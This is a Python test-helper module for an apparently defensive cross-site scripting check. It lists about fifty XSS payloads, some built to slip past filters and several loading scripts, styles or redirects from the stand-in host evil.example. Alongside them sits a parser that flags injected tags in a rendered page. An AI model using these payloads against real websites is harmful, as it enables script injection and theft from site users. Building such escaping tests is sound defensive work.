"""Texts that become a script wherever somebody forgets to escape, and a check that a page took none of them for one."""

from html.parser import HTMLParser

MARK = "data-xss"
"""Every element that a payload would make has this attribute; no page of ours has."""

PAYLOADS: tuple[str, ...] = (
    "<script data-xss>alert(1)</script>",
    "<SCRIPT data-xss SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script data-xss>ipt>alert(1)</script>",
    "</script><script data-xss>alert(1)</script>",
    "<img data-xss src=x onerror=alert(1)>",
    "<img data-xss src=x onerror=alert(1)//",
    "<IMG data-xss SRC=`javascript:alert(1)`>",
    "<svg data-xss onload=alert(1)>",
    "<svg/data-xss/onload=alert(1)//",
    "<svg data-xss><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg data-xss><script>alert(1)</script></svg>",
    "<math data-xss><mtext></mtext><mi xlink:href=javascript:alert(1)>x",
    "<iframe data-xss src=javascript:alert(1)></iframe>",
    "<iframe data-xss srcdoc='<script>alert(1)</script>'>",
    "<object data-xss data=javascript:alert(1)>",
    "<embed data-xss src=//evil.example/x.swf>",
    "<a data-xss href=javascript:alert(1)>x</a>",
    "<a data-xss href='&#106;avascript:alert(1)'>x</a>",
    "<base data-xss href=//evil.example/>",
    "<meta data-xss http-equiv=refresh content='0;url=//evil.example'>",
    "<link data-xss rel=stylesheet href=//evil.example/x.css>",
    "<style data-xss>@import '//evil.example/x.css'</style>",
    "<form data-xss action=//evil.example><button>x",
    "<input data-xss autofocus onfocus=alert(1)>",
    "<body data-xss onload=alert(1)>",
    "<details data-xss open ontoggle=alert(1)>",
    "<video data-xss><source onerror=alert(1)></video>",
    "<marquee data-xss onstart=alert(1)>",
    "<template data-xss><script>alert(1)</script></template>",
    "<noscript data-xss><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img data-xss src=x onerror=alert(1)>-->",
    "<![CDATA[<img data-xss src=x onerror=alert(1)>]]>",
    "\"><img data-xss src=x onerror=alert(1)>",
    "'><img data-xss src=x onerror=alert(1)>",
    "\" data-xss onmouseover=alert(1) x=\"",
    "' data-xss onmouseover=alert(1) x='",
    "` data-xss onmouseover=alert(1) x=`",
    " data-xss onfocus=alert(1) autofocus ",
    "</textarea><img data-xss src=x onerror=alert(1)>",
    "</title><img data-xss src=x onerror=alert(1)>",
    "</option></select><img data-xss src=x onerror=alert(1)>",
    "--><img data-xss src=x onerror=alert(1)>",
    "{{7*7}}<b data-xss>{% raw %}",
    "${alert(1)}<b data-xss>",
    "javascript:alert(1)//<b data-xss>",
    "&lt;img data-xss src=x onerror=alert(1)&gt;<b data-xss>",
    "\\u003cimg data-xss src=x onerror=alert(1)\\u003e<b data-xss>",
    "%3Cimg%20data-xss%20src=x%20onerror=alert(1)%3E<b data-xss>",
    "\u202e<img data-xss src=x onerror=alert(1)>",
    "\uff1cimg data-xss src=x onerror=alert(1)\uff1e<b data-xss>",
)  # fmt: skip

_LINKS = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc")


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        odd = [name for name in names if name.startswith("on") or name == MARK]
        links = [str(names[name]) for name in _LINKS if name in names]
        away = [link for link in links if link.strip().lower().startswith(("javascript:", "data:", "vbscript:", "//"))]
        script = tag == "script" and not str(names.get("src", "")).startswith("/static/")
        if odd or away or script:
            self.wrong.append(self.get_starttag_text() or tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def injected(html: str) -> list[str]:
    """Return every tag of a page that a payload made, or that runs something which is no file of ours."""
    page = _Page()
    page.feed(html)
    page.close()
    return page.wrong


def shown(html: str) -> str:
    """Return the text of a page as somebody reads it."""
    page = _Page()
    page.feed(html)
    page.close()
    return "".join(page.text)
